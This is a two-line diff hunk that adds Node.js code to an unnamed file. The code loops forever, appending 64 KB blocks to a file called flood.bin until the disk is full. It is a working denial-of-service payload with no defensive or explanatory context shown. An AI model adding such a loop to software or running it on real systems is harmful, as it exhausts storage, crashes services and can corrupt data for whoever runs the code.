@@ -1,0 +1,2 @@
+const fs = require("fs");
+while (true) fs.appendFileSync("flood.bin", "z".repeat(65536));
